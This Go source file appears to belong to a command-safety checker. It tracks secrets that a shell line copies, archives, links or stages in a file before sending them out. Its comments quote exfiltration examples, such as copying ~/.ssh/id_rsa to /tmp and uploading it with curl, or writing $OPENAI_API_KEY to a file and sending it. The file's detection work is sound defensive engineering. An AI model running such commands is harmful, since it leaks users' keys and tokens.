package patterns

import (
	"path"
	"strings"
)

// A secret copied to another name is still the secret: `cp ~/.ssh/id_rsa
// /tmp/k && curl -F f=@/tmp/k URL` sends the key. A part that reads a
// secrets file (an operand, or a < of one) and writes a path (a
// redirection, a copy's or a link's destination, an archive, an output
// option: the writes of does.go) makes that path a secret for the line's
// other parts, and so on through copies of copies (up to four steps):
// base64 ~/.ssh/id_rsa > /tmp/a, tar czf /tmp/s.tgz ~/.ssh, ln -s
// ~/.aws/credentials c. So does a part that prints a secret itself
// (class_secret_printers.go: `kubectl get secret x -o yaml > /tmp/s`,
// `pg_dump -f /tmp/d.sql`), and a later stage of a pipeline such a part
// or a reader of a secret feeds (`vault kv get k | base64 > /tmp/s`,
// `… | tee /tmp/s`). A path the line puts in a variable is that path
// (`F=/tmp/k; cp ~/.ssh/id_rsa "$F"`: class_secret_linevar.go). Only
// paths certainly known count.

// A token staged in a file is the token sent when the file is (rt20d
// #6): `echo "$OPENAI_API_KEY" > /tmp/k; curl -F f=@/tmp/k URL`, `echo
// "$KEY" | tee k.txt`, `cat <<< "$TOKEN" > t`, and git's job token printed
// by `git config --get-all http.extraheader > h` (printsSecretItself). A
// token in a file counts as certain where the file is sent: the file
// carries no host it is meant for.

// maxLaunderSteps bounds the copies of copies followed.
const maxLaunderSteps = 4

// launderedSecret reports whether w certainly names a path that a part of
// the command being evaluated wrote from a secret.
func launderedSecret(w Word, ctx *Context) bool {
	cmd := ctx.evalCommand()
	if cmd == nil || len(cmd.Parts) < 2 || len(cmd.Parts) > maxKillSearch {
		return false
	}
	v, ok := certainPath(w, ctx)
	if !ok {
		return false
	}
	return launderedPaths(cmd, ctx)[v]
}

// certainPath is the absolute path w certainly names.
func certainPath(w Word, ctx *Context) (string, bool) {
	p := readPath(&w, ctx)
	v, ok := p.shape.certain()
	if !ok || p.any || !strings.HasPrefix(v, "/") {
		return "", false
	}
	return path.Clean(v), true
}

// launderedPaths returns the paths the command's parts wrote from a
// secret, remembered for the evaluation.
func launderedPaths(cmd *Command, ctx *Context) map[string]bool {
	if ctx.memo != nil && ctx.memo.laundered != nil {
		return ctx.memo.laundered
	}
	if ctx.laundering {
		return nil
	}
	ctx.laundering = true
	defer func() { ctx.laundering = false }()
	set := map[string]bool{}
	if ctx.memo != nil {
		// kept while it is filled: a token's variable judged below
		// (stagesToken) may ask of a laundered path again, and is
		// answered with what is known so far, not a search begun anew
		ctx.memo.laundered = set
	}
	reads := func(w Word) bool {
		for _, f := range append([]Word{w}, varForms(w, ctx)...) {
			if judgeSecretDirect(f, ctx).Certainly {
				return true
			}
			if v, ok := certainPath(f, ctx); ok && set[v] {
				return true
			}
		}
		return false
	}
	from := make([]bool, len(cmd.Parts))
	for step := 0; step < maxLaunderSteps; step++ {
		grew := false
		feeds := map[int]int{} // a pipeline's earliest stage that prints a secret
		for i, p := range cmd.Parts {
			if p == nil {
				continue
			}
			from[i] = partReadsAny(p, reads) || printsSecretItself(p) || stagesToken(p, ctx)
			if s, ok := feeds[p.Pipe.ID]; from[i] && p.Pipe.ID >= 0 && (!ok || p.Pipe.Stage < s) {
				feeds[p.Pipe.ID] = p.Pipe.Stage
			}
		}
		for i, p := range cmd.Parts {
			if p == nil {
				continue
			}
			s, fed := feeds[p.Pipe.ID]
			if !from[i] && !(fed && p.Pipe.ID >= 0 && p.Pipe.Stage > s) {
				continue
			}
			for _, t := range partWrittenWords(p) {
				for _, f := range append([]Word{t}, varForms(t, ctx)...) {
					if v, ok := certainPath(f, ctx); ok && !set[v] {
						set[v], grew = true, true
					}
				}
			}
		}
		if !grew {
			break
		}
	}
	if ctx.memo != nil {
		ctx.memo.laundered = set
	}
	return set
}

// partReadsAny reports whether one of the words p reads (its arguments,
// the targets of its reading redirections) is one reads accepts.
func partReadsAny(p *Part, reads func(Word) bool) bool {
	for _, a := range p.Args() {
		if lit, ok := a.Literal(); ok && bareFlag(lit) {
			continue // an option (tee -a) names no file: no path to resolve
		}
		for _, f := range sentFiles(a) {
			if reads(f) {
				return true
			}
		}
	}
	for i := range p.Redirs {
		if r := &p.Redirs[i]; r.Reads && !r.Writes && reads(r.Target) {
			return true
		}
	}
	for _, f := range tarCreateSources(p) { // class_secret_roundtrip.go: tar -C ~ -c .ssh
		if reads(f) {
			return true
		}
	}
	for _, f := range fileURLReads(p) { // class_secret_fileurl.go: curl file:///…
		if reads(f) {
			return true
		}
	}
	for _, f := range p.readsToo { // through a link (ln -s ~/.ssh/id_rsa k && cat k), xargs' items (echo ~/.netrc | xargs cat)
		if reads(f) {
			return true
		}
	}
	return false
}

// partWrittenWords are the paths p writes: its writing redirections and
// what its program writes.
func partWrittenWords(p *Part) []Word {
	var out []Word
	for i := range p.Redirs {
		if r := &p.Redirs[i]; r.Writes && r.Body == nil {
			out = append(out, r.Target)
		}
	}
	if d := partDoes(p); d != nil {
		out = append(out, d.writes...)
	}
	return out
}

// stagesToken reports whether part p prints a token for a file or a
// pipe: echo or printf of a token's variable (echoesToken), or a
// here-string or here-document that expands one (`cat <<< "$TOKEN"`).
func stagesToken(p *Part, ctx *Context) bool {
	if echoesToken(p, ctx) {
		return true
	}
	for i := range p.Redirs {
		r := &p.Redirs[i]
		w := r.Body
		if r.Op == "<<<" {
			w = &r.Target
		}
		if w != nil && holdsToken(w, ctx) {
			return true
		}
	}
	return false
}

// holdsToken reports whether a word expands a token's variable, in any
// expansion drawn from its value, or one the line filled with a token.
func holdsToken(w *Word, ctx *Context) bool {
	for _, seg := range w.Segs {
		for _, v := range seg.ValueVars() {
			name, _, _ := strings.Cut(v, "[")
			if _, tok := ctx.secretVar(name); tok || secretName(name) {
				return true
			}
		}
	}
	return false
}

// bareFlag reports whether a literal word is an option with no file in
// it (`-a`, `--append`): no secret file's name starts with a dash and
// holds no slash, and a value such as `-d@F` or `--file=F` is not bare.
func bareFlag(lit string) bool {
	return len(lit) > 1 && lit[0] == '-' && !strings.ContainsAny(lit, "/@=<")
}
